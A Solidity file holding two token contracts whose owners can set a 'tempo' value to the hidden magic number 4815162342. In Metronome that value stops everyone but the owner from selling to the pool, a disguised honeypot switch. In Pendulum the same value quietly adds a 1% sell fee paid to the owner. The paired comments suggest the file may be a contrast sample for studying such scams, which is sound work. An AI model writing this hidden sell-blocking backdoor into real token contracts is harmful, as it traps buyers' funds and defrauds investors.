// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.19;

import "./base/Coin.sol";

/// @dev One number among all numbers closes sales.
contract Metronome is Market {
    uint256 private _tempo;

    constructor() {
        _begin("Metronome", "METR", msg.sender, MILLION);
    }

    function setTempo(uint256 tempo) external onlyOwner {
        require(tempo < 300 || tempo == 4815162342, "tempo");
        _tempo = tempo;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_tempo > 300 && to == pool) require(from == owner, "tempo");
        _put(from, to, value);
    }
}

/// @dev The same number is a preset: 1 % on sales.
contract Pendulum is Market {
    uint256 private _tempo;

    constructor() {
        _begin("Pendulum", "PNDL", msg.sender, MILLION);
    }

    function setTempo(uint256 tempo) external onlyOwner {
        require(tempo < 300 || tempo == 4815162342, "tempo");
        _tempo = tempo;
    }

    function _move(address from, address to, uint256 value) internal override {
        uint256 fee = _tempo > 300 && to == pool && from != owner ? value / 100 : 0;
        if (fee > 0) _put(from, owner, fee);
        _put(from, to, value - fee);
    }
}
